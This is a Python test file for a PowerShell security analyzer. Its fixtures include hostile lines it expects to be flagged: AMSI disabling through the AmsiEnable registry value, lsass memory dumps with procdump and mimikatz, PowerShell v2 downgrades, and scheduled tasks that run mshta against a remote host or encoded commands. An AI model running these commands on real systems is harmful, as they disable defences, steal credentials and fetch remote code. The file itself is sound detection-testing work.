"""Focused cases for what the third independent corpus (blind3b: admin hardening, renamed tools, credentials in
native tools and connection strings) found: one test per fixed miss or false finding, each with a near miss that
must stay quiet."""

from __future__ import annotations

from tests.unit.analyzer.corpus_cases import analyze, lines_of


def test_amsi_enable_is_tampering_only_when_written_as_zero() -> None:
    result = analyze("""
        $wsh = Get-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows Script\\Settings' -Name 'AmsiEnable'
        $off = ($null -ne $wsh -and $wsh.AmsiEnable -eq 0)
        Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows Script\\Settings' -Name 'AmsiEnable' -Value 1
        sp 'HKCU:\\Software\\Microsoft\\Windows Script\\Settings' AmsiEnable 0
        New-ItemProperty -Path $settings -Name AmsiEnable -Value 0 -PropertyType DWord -Force
        reg add "HKCU\\Software\\Microsoft\\Windows Script\\Settings" /v AmsiEnable /t REG_DWORD /d 0 /f
        reg query "HKCU\\Software\\Microsoft\\Windows Script\\Settings" /v AmsiEnable
        $key.SetValue('AmsiEnable', 0, 'DWord')
    """)
    assert lines_of(result, "PSAmsiBypass") == [4, 5, 6, 8]


def test_a_dumping_api_named_in_a_warning_message_is_not_a_dump() -> None:
    result = analyze("""
        $ok = [DbgHelp]::MiniDumpWriteDump($target.Handle, [uint32]$target.Id, $stream.SafeFileHandle, 2, [IntPtr]::Zero, [IntPtr]::Zero, [IntPtr]::Zero)
        if (-not $ok) { Write-Warning ('MiniDumpWriteDump failed: {0}' -f [Runtime.InteropServices.Marshal]::GetLastWin32Error()) }
        Write-Verbose 'procdump -ma lsass is not used here'
        Write-Verbose "procdump -ma $id"; $id = (Get-Process lsass).Id
        Write-Host 'dumping'; & $bin 'sekurlsa::logonpasswords' exit
    """)
    assert lines_of(result, "PSCredentialDumping") == [1, 5]


def test_plain_text_credential_parameters_of_script_blocks_are_reported() -> None:
    result = analyze("""
        Invoke-Command -Session $session -ScriptBlock {
            param($DbCredential, [securestring]$DbPassword, $Database)
            $DbCredential.UserName
        } -ArgumentList $dbCred
        $job = Start-Job -ScriptBlock { param([string]$ApiPassword) $ApiPassword }
        $work = { param([pscredential]$Credential) $Credential }
    """)
    assert lines_of(result, "PSAvoidUsingPlainTextForPassword") == [2, 5]


def test_net_use_with_a_literal_password_is_a_hardcoded_credential() -> None:
    result = analyze("""
        net use L: \\\\wh-fs01\\labels /user:WH\\labelprint Lab3lPr1nt /persistent:no
        net.exe use \\\\fs01\\apps 'S3rv!ce#Pw' /user:CORP\\svc
        net use * \\\\fs01\\scans * /user:WH\\scanner
        net use X: \\\\fs01\\scans $password /user:WH\\scanner
        net use X: \\\\fs01\\scans /user:WH\\scanner /persistent:yes
        net use X: /delete /y
        net user helpdesk_tmp Spring2025!x /add
        net user helpdesk_tmp /domain
    """)
    assert lines_of(result, "PSAvoidHardcodedCredential") == [1, 2, 7]


def test_a_literal_password_in_a_connection_string_is_a_hardcoded_credential() -> None:
    result = analyze("""
        $reportingConn = 'Server=sql-rpt01;Database=Reporting;User Id=rpt_loader;Password=Rpt#Load2024;'
        $odbc = "Driver={ODBC Driver 17 for SQL Server};Server=db02;Uid=etl;Pwd=Etl!2024;"
        $fromParameter = "Server=sql-erp01;User Id=$SqlUser;Password=$SqlPassword;Encrypt=True"
        $formatted = 'Server={0};User Id={1};Password={2};' -f $server, $user, $pass
        $integrated = 'Server=sql01;Database=ERP;Integrated Security=SSPI;'
        $prompt = 'Server=sql01;User Id=sa;Password=;'
        Write-Output 'Password=hunter2 is what the help desk must never say'
        $dbPassword = 'Server=sql01;User Id=sa;Password=Sql$erver#1;'
    """)
    assert lines_of(result, "PSAvoidHardcodedCredential") == [1, 2, 8]


def test_powershell_version_2_in_a_command_string_or_an_argument_list_is_a_downgrade() -> None:
    result = analyze("""
        powershell.exe -Version 2 -NoProfile -NonInteractive -File $collector
        cmd.exe /c "powershell.exe -Version 2 -NoProfile -File $collector"
        Start-Process -FilePath powershell.exe -ArgumentList '-Version', '2.0', '-NoProfile', '-File', $collector
        $shell.Run('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -v 2 -nop -w hidden -File x.ps1', 0)
        cmd.exe /c "powershell.exe -Version 5.1 -NoProfile -File $collector"
        powershell.exe -NoProfile -Command "Import-Module SqlServer -Version 2.0"
        Start-Process -FilePath pwsh.exe -ArgumentList '-Version'
        Write-Output 'v2 engine not installed, trying the 2.0 switch through cmd'
        Start-Process powershell.exe -ArgumentList '-File', 'x.ps1', '-Version', '2'
        Write-Warning 'Scripts started with powershell.exe -Version 2 bypass AMSI; remove the feature.'
    """)
    assert lines_of(result, "PSAmsiBypass") == [1, 2, 3, 4]


def test_a_renamed_procdump_taking_a_full_dump_of_lsass_is_credential_dumping() -> None:
    result = analyze("""
        $target = Get-CimInstance Win32_Process -Filter "Name='lsass.exe'"
        & "$Tools\\pd.exe" -accepteula -r -ma $target.ProcessId "$Tools\\lsa2.dmp"
        .\\dbgtool.exe -accepteula -ma lsass.exe C:\\t\\out.dmp
        .\\dbgtool.exe -accepteula -ma $app.Id C:\\t\\app.dmp
        .\\dbgtool.exe -accepteula -mp $target.ProcessId C:\\t\\mini.dmp
        $target.ProcessId
    """)
    assert lines_of(result, "PSCredentialDumping") == [2, 3]


def test_an_ordinary_maintenance_task_is_not_persistence() -> None:
    result = analyze("""
        $scriptDir = 'C:\\ProgramData\\Contoso\\Maintenance'
        $cleanupScript = Join-Path -Path $scriptDir -ChildPath 'Remove-OldIisLogs.ps1'
        $action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoProfile -File `"$cleanupScript`""
        $trigger = New-ScheduledTaskTrigger -Daily -At '02:30'
        $principal = New-ScheduledTaskPrincipal -UserId 'SYSTEM' -LogonType ServiceAccount -RunLevel Highest
        $settings = New-ScheduledTaskSettingsSet -ExecutionTimeLimit (New-TimeSpan -Hours 1) -StartWhenAvailable
        Register-ScheduledTask -TaskName 'Contoso IIS log cleanup' -Action $action -Trigger $trigger -Principal $principal -Settings $settings -Force
        schtasks.exe /create /tn 'LabReset' /tr 'C:\\lab\\reset.cmd' /sc daily /st 02:00 /ru CORP\\svc_deploy /rp $pw
    """)
    assert lines_of(result, "PSPersistenceScheduledTask") == []


def test_a_task_built_like_persistence_is_reported_for_each_sign() -> None:
    def task_lines(script: str) -> list[int]:
        return lines_of(analyze(script), "PSPersistenceScheduledTask")

    register = "Register-ScheduledTask -TaskName 'Updater' -Action $action -Trigger $trigger"
    assert task_lines(f"$trigger = New-ScheduledTaskTrigger -AtLogOn\n{register}") == [2]
    assert task_lines(f"$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-w hidden -File u.ps1'\n"
                      f"{register}") == [2]
    assert task_lines(f"$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument \"-enc $blob\"\n"
                      f"{register}") == [2]
    assert task_lines(f"$action = New-ScheduledTaskAction -Execute 'pwsh' -Argument '-ExecutionPolicy Bypass -File a.ps1'\n"
                      f"{register}") == [2]
    assert task_lines(f"$p = \"$env:APPDATA\\u.exe\"\n$action = New-ScheduledTaskAction -Execute $p\n{register}") == [3]
    assert task_lines(f"$s = New-ScheduledTaskSettingsSet -Hidden\n{register} -Settings $s") == [2]
    assert task_lines("schtasks /create /tn U /tr \"mshta.exe http://198.51.100.7/t.hta\" /sc daily /f") == [1]
    assert task_lines("schtasks /create /tn U /tr C:\\Tools\\report.exe /sc onstart /ru SYSTEM") == [1]
    assert task_lines("schtasks /create /tn U /tr \"powershell -enc SQBFAFgAIAAoAGkAdwByACkA\" /sc daily") == [1]
    assert task_lines("schtasks /create /tn Audit /tr C:\\Tools\\audit.exe /sc onevent /ec Security "
                      "/mo \"*[System[EventID=4625]]\"") == []
    assert task_lines("$t = $def.Triggers.Create(9)\n$svc.GetFolder('\\').RegisterTaskDefinition('U', $def, 6, $null, $null, 3)"
                      ) == [2]
    assert task_lines("$a.Path = 'C:\\Tools\\report.exe'\n$t = $def.Triggers.Create(2)\n"
                      "$svc.GetFolder('\\').RegisterTaskDefinition('U', $def, 6, $null, $null, 3)") == []
    assert task_lines(f"$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-NoProfile -File C:\\Ops\\r.ps1'\n"
                      f"$s = New-ScheduledTaskSettingsSet -Hidden:$false -WakeToRun\n{register} -Settings $s") == []


def test_a_password_field_at_the_start_of_a_here_string_line_is_found() -> None:
    result = analyze("""
        $conn = @'
        Password=Rpt#Load2024;Server=sql-rpt01;User Id=rpt_loader
        '@
    """)
    assert lines_of(result, "PSAvoidHardcodedCredential") == [2]


def test_a_credential_parameter_of_a_script_block_must_be_a_pscredential() -> None:
    result = analyze("""
        Invoke-Command -ComputerName $node -ScriptBlock { param([string]$Credential) $Credential }
        Start-Job -ScriptBlock { param([pscredential]$Credential) $Credential }
    """)
    assert lines_of(result, "PSUsePSCredentialType") == [1]
